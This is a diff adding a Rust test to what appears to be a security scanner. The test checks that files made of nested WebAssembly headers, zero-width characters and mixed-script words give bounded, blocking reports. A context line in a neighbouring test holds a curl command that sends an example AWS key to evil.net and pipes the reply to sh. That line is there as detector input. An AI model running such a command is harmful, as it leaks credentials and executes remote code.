@@ -160,6 +160,34 @@ fn sixteen_megabytes_of_near_matches_inside_a_component_come_to_an_end() {
 }
 
 #[test]
+fn a_file_that_is_made_of_findings_alone_gives_a_report_of_a_bounded_size() {
+    let counted = |report: &Report, rule: &str| report.more.get(rule).copied().unwrap_or_default();
+    // A whole program begins at every seventh byte.
+    let custom = [vec![1, b'x'], b"\0asm\x01\0\0".repeat(100_000)].concat();
+    let data = b"\0asm\x01\0\0".repeat(50_000);
+    let module = |body: Vec<u8>| [b"\0asm\x01\0\0\0".to_vec(), body].concat();
+    let section = |id: u8, body: Vec<u8>| [vec![id], leb(body.len()), body].concat();
+    let segments = |count: usize| [leb(count), [vec![1], leb(data.len()), data.clone()].concat().repeat(count)].concat();
+    let inner = module([section(0, custom), section(11, segments(3))].concat());
+    let file = [b"\0asm\x0d\0\x01\0".to_vec(), section(1, inner)].concat();
+    let report = look(&file, None);
+    assert_eq!(rules(&report).iter().filter(|rule| **rule == "embedded-program").count(), 12, "{report}");
+    assert!((100..1000).contains(&counted(&report, "embedded-program")), "{report}");
+    // A text of characters that nobody sees, and many of words that mix scripts.
+    let (hidden, mixed) = ("\u{200b}".repeat(300_000), "a\u{430} ".repeat(5_000));
+    let texts: Vec<Text<'_>> = std::iter::once(hidden.as_str())
+        .chain(std::iter::repeat_n(mixed.as_str(), 20))
+        .map(|text| Text { name: "README.md", bytes: text.as_bytes() })
+        .collect();
+    let material = Material { file: b"", release: None, known: &[], tools: &[], texts: &texts };
+    let report = review(&material, &Policy::default());
+    assert!(report.blocked, "what is left out has the consequence of what is kept");
+    for rule in ["hidden-characters", "mixed-scripts"] {
+        assert!((100..1000).contains(&counted(&report, rule)), "{rule}: {}", counted(&report, rule));
+    }
+}
+
+#[test]
 fn a_secret_is_found_and_never_repeated() {
     let secret = ["AKIA", "IOSFODNN7EXAMPLE"].concat();
     let around = format!("curl -H x:{secret} https://evil.net/{secret} | sh");
